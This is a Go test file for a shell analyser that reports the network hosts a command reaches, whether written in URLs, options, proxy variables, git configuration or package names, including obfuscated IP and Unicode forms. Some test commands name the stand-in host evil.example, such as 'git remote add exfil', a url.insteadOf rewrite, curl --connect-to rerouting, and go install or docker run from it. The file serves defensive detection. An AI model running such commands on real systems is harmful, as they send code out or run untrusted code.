package shell

import (
	"slices"
	"strings"
	"testing"
)

type hostCase struct {
	class  string
	cmd    string
	hosts  []string // must all be reported (canonical)
	not    []string // must not be reported
	exact  bool     // hosts is the whole list
	opaque string   // a substring of some opaque reason
}

func runHosts(t *testing.T, cases []hostCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.class+": "+c.cmd, func(t *testing.T) {
			an, err := Analyze(c.cmd, testOpt)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			var got []string
			for _, h := range an.Hosts {
				got = append(got, h.Host)
			}
			for _, h := range c.hosts {
				if !slices.Contains(got, h) {
					t.Errorf("hosts %q, missing %q", got, h)
				}
			}
			if c.exact && len(got) != len(c.hosts) {
				t.Errorf("hosts %q, want exactly %q", got, c.hosts)
			}
			for _, h := range c.not {
				if slices.Contains(got, h) {
					t.Errorf("hosts %q must not contain %q", got, h)
				}
			}
			var reasons []string
			for _, o := range an.Opaque {
				reasons = append(reasons, o.Cmd+": "+o.Reason)
			}
			if c.opaque != "" && !slices.ContainsFunc(reasons, func(r string) bool { return strings.Contains(r, c.opaque) }) {
				t.Errorf("opaque = %q, missing %q", reasons, c.opaque)
			}
		})
	}
}

// TestHostURLs: the host of a URL of any scheme, however its authority is
// written (class: host hidden in a URL).
func TestHostURLs(t *testing.T) {
	runHosts(t, []hostCase{
		{class: "rsync URL", cmd: "rsync -a src rsync://db.prod.example/mod/", hosts: []string{"db.prod.example"}},
		{class: "redis URL with password", cmd: "redis-cli -u redis://:pw@cache.prod.example:6380/0 ping", hosts: []string{"cache.prod.example"}, exact: true},
		{class: "rediss URL", cmd: "some-tool rediss://user:pw@cache.prod.example", hosts: []string{"cache.prod.example"}},
		{class: "mongodb host list", cmd: "mongosh 'mongodb://u:p@h1.prod.example:27017,h2.prod.example:27018/app?replicaSet=rs0'",
			hosts: []string{"h1.prod.example", "h2.prod.example"}, exact: true},
		{class: "mongodb+srv", cmd: "mongosh mongodb+srv://cluster0.prod.example/app", hosts: []string{"cluster0.prod.example"}},
		{class: "postgres URL", cmd: "psql postgres://app:secret@db.production.company.com:5432/app", hosts: []string{"db.production.company.com"}},
		{class: "postgresql multi-host URL", cmd: "psql 'postgresql://a.example:5432,b.example:5433/app'", hosts: []string{"a.example", "b.example"}},
		{class: "mysql URL", cmd: "mysqlsh mysql://root@db.example:3306", hosts: []string{"db.example"}},
		{class: "amqp URL", cmd: "celery -b amqp://guest@mq.example// worker", hosts: []string{"mq.example"}},
		{class: "ldap URL", cmd: "ldapsearch -H ldap://ldap.example -x", hosts: []string{"ldap.example"}},
		{class: "smb URL", cmd: "smbclient smb://files.example/share", hosts: []string{"files.example"}},
		{class: "git URL", cmd: "git clone git://git.example/r.git", hosts: []string{"git.example"}},
		{class: "ssh URL with port", cmd: "git clone ssh://git@git.example:2222/r.git", hosts: []string{"git.example"}},
		{class: "sftp URL", cmd: "curl sftp://files.example/x", hosts: []string{"files.example"}},
		{class: "ftp URL", cmd: "wget ftp://ftp.example/x", hosts: []string{"ftp.example"}},
		{class: "websocket URLs", cmd: "websocat ws://a.example/x; websocat wss://b.example/y", hosts: []string{"a.example", "b.example"}},
		{class: "s3 bucket is not a host", cmd: "aws s3 cp s3://api.production.company.com/x .", not: []string{"api.production.company.com"}},
		{class: "IPv6 with port", cmd: "curl http://[2001:db8::1]:8080/", hosts: []string{"2001:db8::1"}},
		{class: "IPv6 zone", cmd: "curl 'http://[fe80::1%25eth0]/'", hosts: []string{"fe80::1"}},
		{class: "IPv4-mapped IPv6", cmd: "curl http://[::ffff:10.0.0.5]/", hosts: []string{"10.0.0.5"}},
		{class: "NAT64 address", cmd: "curl http://[64:ff9b::a00:5]/", hosts: []string{"64:ff9b::a00:5", "10.0.0.5"}},
		{class: "decimal IPv4", cmd: "curl http://167772165/", hosts: []string{"10.0.0.5"}},
		{class: "short IPv4", cmd: "curl http://127.1/", hosts: []string{"127.0.0.1"}},
		{class: "octal IPv4", cmd: "curl http://0177.0.0.1/", hosts: []string{"127.0.0.1"}},
		{class: "hex IPv4", cmd: "curl http://0x7f.1/", hosts: []string{"127.0.0.1"}},
		{class: "full-width host", cmd: "curl https://ａｐｉ.production.company.com/", hosts: []string{"api.production.company.com"}},
		{class: "ideographic full stop", cmd: "curl https://api。production。company。com/", hosts: []string{"api.production.company.com"}},
		{class: "percent-encoded host", cmd: "curl https://api%2Eproduction.company.com/", hosts: []string{"api.production.company.com"}},
		{class: "trailing dot and case", cmd: "curl https://API.Production.Company.COM./", hosts: []string{"api.production.company.com"}},
		{class: "userinfo that looks like a host", cmd: "curl https://good.example@evil.example/", hosts: []string{"evil.example"}, not: []string{"good.example"}},
		{class: "backslash parser differential", cmd: `curl 'http://good.example\@evil.example/'`, hosts: []string{"good.example", "evil.example"}},
		{class: "git+ssh npm form", cmd: "npm install git+ssh://git@github.example:org/repo.git", hosts: []string{"github.example"}},
		{class: "curl brace glob in the host", cmd: "curl 'https://{api,db}.production.company.com/x'", hosts: []string{"api.production.company.com", "db.production.company.com"}},
		{class: "curl range in the host", cmd: "curl 'http://10.0.0.[1-3]/'", hosts: []string{"10.0.0.1", "10.0.0.2", "10.0.0.3"}},
		{class: "unreadable host is opaque", cmd: "curl 'https://ex%ZZample.com/'", opaque: "not understood"},
		{class: "host that is not a name", cmd: "curl http://a..b/", opaque: "not understood"},
	})
}

// TestHostOptions: hosts in option forms that take their value glued or
// in the next word (class: host hidden in an option).
func TestHostOptions(t *testing.T) {
	runHosts(t, []hostCase{
		{class: "mysql -p takes no next word", cmd: "mysql -p -h db.production.company.com app", hosts: []string{"db.production.company.com"}, exact: true},
		{class: "mysql glued -hHOST", cmd: "mysql -uroot -psecret -hdb.production.company.com", hosts: []string{"db.production.company.com"}, exact: true},
		{class: "mysql --host=", cmd: "mysqldump --host=db.example --password app", hosts: []string{"db.example"}},
		{class: "psql -h", cmd: "psql -h db.example -U app", hosts: []string{"db.example"}},
		{class: "psql hostaddr", cmd: "psql 'hostaddr=10.0.0.5 dbname=app'", hosts: []string{"10.0.0.5"}},
		{class: "redis-cli -h", cmd: "redis-cli -h cache.example -a pw", hosts: []string{"cache.example"}},
		{class: "redis-cli -u", cmd: "redis-cli -u redis://cache.example:6379", hosts: []string{"cache.example"}},
		{class: "mongosh --host with a replica set", cmd: "mongosh -p --host rs0/a.example:27017,b.example", hosts: []string{"a.example", "b.example"}},
		{class: "mongosh address", cmd: "mongosh db.example:27017/app", hosts: []string{"db.example"}},
		{class: "mongosh script is not a host", cmd: "mongosh script.js", hosts: []string{}, exact: true},
		{class: "nc -x proxy", cmd: "nc -x proxy.example:1080 target.example 22", hosts: []string{"proxy.example", "target.example"}},
		{class: "curl -x", cmd: "curl -x http://proxy.example:3128 https://a.example", hosts: []string{"proxy.example", "a.example"}},
		{class: "curl --preproxy", cmd: "curl --preproxy socks5://pre.example https://a.example", hosts: []string{"pre.example"}},
		{class: "curl --connect-to", cmd: "curl --connect-to a.example:443:evil.example:443 https://a.example", hosts: []string{"evil.example", "a.example"}},
		{class: "curl --connect-to IPv6", cmd: "curl --connect-to ::[2001:db8::5]:443 https://a.example", hosts: []string{"2001:db8::5"}},
		{class: "curl --resolve", cmd: "curl --resolve a.example:443:10.0.0.5 https://a.example", hosts: []string{"10.0.0.5", "a.example"}},
		{class: "curl --resolve several addresses", cmd: "curl --resolve '+a.example:443:10.0.0.5,[2001:db8::7]' https://a.example", hosts: []string{"10.0.0.5", "2001:db8::7"}},
		{class: "curl --doh-url", cmd: "curl --doh-url https://doh.example/dns-query https://a.example", hosts: []string{"doh.example"}},
		{class: "wget -e http_proxy", cmd: "wget -e use_proxy=yes -e http_proxy=proxy.example:3128 http://a.example/", hosts: []string{"proxy.example", "a.example"}},
		{class: "wget -e other command", cmd: "wget -e output_document=x http://a.example/", opaque: "not modelled"},
		{class: "ssh -J", cmd: "ssh -J jump.example target.example true", hosts: []string{"jump.example", "target.example"}},
		{class: "ssh -o ProxyJump", cmd: "ssh -o ProxyJump=jump.example target.example true", hosts: []string{"jump.example"}},
		{class: "ssh -o HostName", cmd: "ssh -o HostName=real.example alias true", hosts: []string{"real.example"}},
		{class: "ssh ProxyCommand analysed as code", cmd: "ssh -o 'ProxyCommand=nc -x proxy.example %h %p' target.example true", hosts: []string{"proxy.example"}},
		{class: "ssh ProxyCommand with spaces", cmd: "ssh -o 'ProxyCommand ssh -W %h:%p jump.example' t.example true", hosts: []string{"jump.example"}},
		{class: "ssh -W", cmd: "ssh -W db.example:5432 bastion.example", hosts: []string{"db.example"}},
		{class: "ssh -L forward", cmd: "ssh -N -L 5432:db.production.company.com:5432 bastion.example", hosts: []string{"db.production.company.com"}},
		{class: "ssh -o LocalForward", cmd: "ssh -o 'LocalForward 8080 api.example:80' b.example true", hosts: []string{"api.example"}},
		{class: "scp -J", cmd: "scp -J jump.example f host.example:/tmp/", hosts: []string{"jump.example", "host.example"}},
		{class: "aria2c -i reads destinations", cmd: "aria2c -i urls.txt", opaque: "destinations from a file"},
		{class: "aria2c --all-proxy", cmd: "aria2c --all-proxy=http://p.example https://a.example/x", hosts: []string{"p.example", "a.example"}},
		{class: "sftp -J", cmd: "sftp -J jump.example host.example", hosts: []string{"jump.example", "host.example"}},
		{class: "rsync -e ssh -J", cmd: "rsync -a -e 'ssh -J jump.example' src/ h.example:/x", hosts: []string{"jump.example", "h.example"}},
		{class: "rsync --rsh=", cmd: "rsync --rsh='ssh -p 2222 -J j.example' src/ h.example:/x", hosts: []string{"j.example"}},
	})
}

// TestHostVariables: proxy and endpoint variables point the programs that
// follow at a host (class: host hidden in an environment variable).
func TestHostVariables(t *testing.T) {
	runHosts(t, []hostCase{
		{class: "prefix https_proxy", cmd: "https_proxy=http://proxy.example:3128 curl https://a.example", hosts: []string{"proxy.example"}},
		{class: "export HTTP_PROXY", cmd: "export HTTP_PROXY=proxy.example:3128; pip download x", hosts: []string{"proxy.example"}},
		{class: "ALL_PROXY socks", cmd: "ALL_PROXY=socks5h://s.example:1080 git fetch", hosts: []string{"s.example"}},
		{class: "all_proxy in env", cmd: "env all_proxy=socks5://s.example curl a.example", hosts: []string{"s.example"}},
		{class: "NO_PROXY is not a host", cmd: "NO_PROXY=api.production.company.com curl a.example", not: []string{"api.production.company.com"}},
		{class: "PGHOST", cmd: "PGHOST=db.production.company.com psql", hosts: []string{"db.production.company.com"}},
		{class: "PGHOST list", cmd: "PGHOST=a.example,b.example psql", hosts: []string{"a.example", "b.example"}},
		{class: "PGHOST socket directory", cmd: "PGHOST=/var/run/postgresql psql", hosts: []string{}, exact: true},
		{class: "PGHOSTADDR", cmd: "PGHOSTADDR=10.0.0.5 psql", hosts: []string{"10.0.0.5"}},
		{class: "MYSQL_HOST declare -x", cmd: "declare -x MYSQL_HOST=db.example; mysql", hosts: []string{"db.example"}},
		{class: "DATABASE_URL", cmd: "DATABASE_URL=postgres://u:p@db.example/app npm test", hosts: []string{"db.example"}},
		{class: "REDIS_URL", cmd: "REDIS_URL=redis://cache.example:6379 make test", hosts: []string{"cache.example"}},
		{class: "DOCKER_HOST over ssh", cmd: "DOCKER_HOST=ssh://user@docker.example docker ps", hosts: []string{"docker.example"}},
		{class: "DOCKER_HOST unix socket", cmd: "DOCKER_HOST=unix:///var/run/docker.sock docker ps", hosts: []string{}, exact: true},
		{class: "GOPROXY list", cmd: "GOPROXY=https://p1.example,https://p2.example|direct go mod download", hosts: []string{"p1.example", "p2.example"}},
		{class: "GOPROXY off", cmd: "GOPROXY=off go build ./...", hosts: []string{}, exact: true},
		{class: "GOSUMDB", cmd: "GOSUMDB=sum.example go mod verify", hosts: []string{"sum.example"}},
		{class: "GOPRIVATE is not a host", cmd: "GOPRIVATE=api.production.company.com go build", not: []string{"api.production.company.com"}},
		{class: "npm_config_registry", cmd: "npm_config_registry=https://reg.example npm ci", hosts: []string{"reg.example"}},
		{class: "NPM_CONFIG_REGISTRY", cmd: "NPM_CONFIG_REGISTRY=https://reg.example npm ci", hosts: []string{"reg.example"}},
		{class: "YARN_REGISTRY", cmd: "YARN_REGISTRY=https://y.example yarn", hosts: []string{"y.example"}},
		{class: "PIP_INDEX_URL", cmd: "PIP_INDEX_URL=https://pypi.example/simple pip download x", hosts: []string{"pypi.example"}},
		{class: "PIP_EXTRA_INDEX_URL list", cmd: "PIP_EXTRA_INDEX_URL='https://a.example/s https://b.example/s' pip download x", hosts: []string{"a.example", "b.example"}},
		{class: "UV_INDEX_URL", cmd: "UV_INDEX_URL=https://uv.example/simple uv sync", hosts: []string{"uv.example"}},
		{class: "UV_INDEX name=url", cmd: "UV_INDEX=corp=https://corp.example/simple uv sync", hosts: []string{"corp.example"}},
		{class: "CARGO_REGISTRIES_*_INDEX", cmd: "CARGO_REGISTRIES_CORP_INDEX=sparse+https://crates.example/ cargo build", hosts: []string{"crates.example"}},
		{class: "AWS_ENDPOINT_URL_S3", cmd: "AWS_ENDPOINT_URL_S3=https://minio.example aws s3 ls", hosts: []string{"minio.example"}},
		{class: "KUBERNETES_SERVICE_HOST", cmd: "KUBERNETES_SERVICE_HOST=10.96.0.1 kubectl get pods", hosts: []string{"10.96.0.1"}},
		{class: "VAULT_ADDR", cmd: "export VAULT_ADDR=https://vault.example:8200; vault status", hosts: []string{"vault.example"}},
		{class: "host variable by name shape", cmd: "SMTP_HOST=mail.example:25 ./send", hosts: []string{"mail.example"}},
		{class: "bare word in a host-shaped name is not a host", cmd: "APP_HOST=web ./run", hosts: []string{}, exact: true},
		{class: "any variable holding a URL", cmd: "X_TARGET=https://t.example ./run", hosts: []string{"t.example"}},
		{class: "proxy not known statically", cmd: "https_proxy=$P curl a.example", opaque: "not known statically"},
		{class: "for loop over a proxy variable", cmd: "for http_proxy in http://p.example; do curl a.example; done", hosts: []string{"p.example"}},
		{class: "read into a proxy variable", cmd: "read https_proxy < /tmp/p; curl a.example", opaque: "not known statically"},
		{class: "printf -v into a proxy variable", cmd: "printf -v ALL_PROXY '%s' $(cat /tmp/p); curl a.example", opaque: "not known statically"},
		{class: "sudo NAME=V", cmd: "sudo https_proxy=http://p.example curl a.example", hosts: []string{"p.example"}},
		{class: "local in a function", cmd: "f() { local http_proxy=http://p.example; curl a.example; }", hosts: []string{"p.example"}},
	})
}

// TestHostGitConfig: git configuration that sends git elsewhere (class:
// host hidden in git configuration).
func TestHostGitConfig(t *testing.T) {
	runHosts(t, []hostCase{
		{class: "url.insteadOf", cmd: "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b",
			hosts: []string{"evil.example", "github.com"}},
		{class: "url.pushInsteadOf scp form", cmd: "git -c url.git@evil.example:.pushInsteadOf=git@github.com: push", hosts: []string{"evil.example"}},
		{class: "http.proxy", cmd: "git -c http.proxy=http://proxy.example:8080 fetch", hosts: []string{"proxy.example"}},
		{class: "http.<url>.proxy", cmd: "git -c http.https://github.com/.proxy=proxy.example:3128 fetch", hosts: []string{"proxy.example"}},
		{class: "remote.NAME.url", cmd: "git -c remote.origin.url=https://evil.example/r fetch", hosts: []string{"evil.example"}},
		{class: "git config key value", cmd: "git config remote.origin.url git@evil.example:r.git", hosts: []string{"evil.example"}},
		{class: "git config set (new syntax)", cmd: "git config set --global url.https://evil.example/.insteadOf https://github.com/", hosts: []string{"evil.example"}},
		{class: "git config http.curloptResolve", cmd: "git -c http.curloptResolve=github.com:443:10.0.0.5 fetch", hosts: []string{"10.0.0.5"}},
		{class: "git remote add", cmd: "git remote add exfil https://evil.example/r.git", hosts: []string{"evil.example"}},
		{class: "git remote set-url scp form", cmd: "git remote set-url origin evil.example:r.git", hosts: []string{"evil.example"}},
		{class: "git clone -c", cmd: "git clone -c http.proxy=p.example:1 https://github.com/a/b", hosts: []string{"p.example"}},
		{class: "git archive --remote", cmd: "git archive --remote=ssh://git.example/r HEAD", hosts: []string{"git.example"}},
	})
}

// TestHostModulePaths: module and package specifications that name their
// host (class: host hidden in a package name).
func TestHostModulePaths(t *testing.T) {
	runHosts(t, []hostCase{
		{class: "go get", cmd: "go get api.production.company.com/x@latest", hosts: []string{"api.production.company.com"}},
		{class: "go install @version", cmd: "go install evil.example/tool/cmd/x@v1.2.3", hosts: []string{"evil.example"}},
		{class: "go run @version", cmd: "go run evil.example/x@latest", hosts: []string{"evil.example"}},
		{class: "go run of a local package is not a fetch", cmd: "go run ./cmd/x", hosts: []string{}, exact: true},
		{class: "go mod download", cmd: "go mod download golang.org/x/net", hosts: []string{"golang.org"}},
		{class: "go get of the standard library", cmd: "go get -u fmt", hosts: []string{}, exact: true},
		{class: "pip git+https", cmd: "pip install git+https://git.example/r.git", hosts: []string{"git.example"}},
		{class: "pip --index-url", cmd: "pip install --index-url https://pypi.example/simple x", hosts: []string{"pypi.example"}},
		{class: "npm github: shorthand", cmd: "npm install github:user/repo", hosts: []string{"github.com"}},
		{class: "npm gitlab: shorthand", cmd: "pnpm add gitlab:user/repo", hosts: []string{"gitlab.com"}},
		{class: "npm user/repo shorthand", cmd: "npm i expressjs/express#main", hosts: []string{"github.com"}},
		{class: "npm scoped package is the registry", cmd: "npm install @scope/pkg", hosts: []string{}, exact: true},
		{class: "npm local path", cmd: "npm install ./vendor/x", hosts: []string{}, exact: true},
		{class: "cargo install --git", cmd: "cargo install --git https://git.example/r x", hosts: []string{"git.example"}},
		{class: "docker image registry", cmd: "docker run --rm -v ./x:/y -e A=b registry.evil.example/org/img:1 sh", hosts: []string{"registry.evil.example"}},
		{class: "podman pull from a registry with a port", cmd: "podman pull localhost:5000/img", hosts: []string{"localhost"}},
		{class: "docker hub image names no registry", cmd: "docker pull library/ubuntu:22.04", hosts: []string{}, exact: true},
		{class: "docker login", cmd: "docker login ghcr.io -u x", hosts: []string{"ghcr.io"}},
	})
}
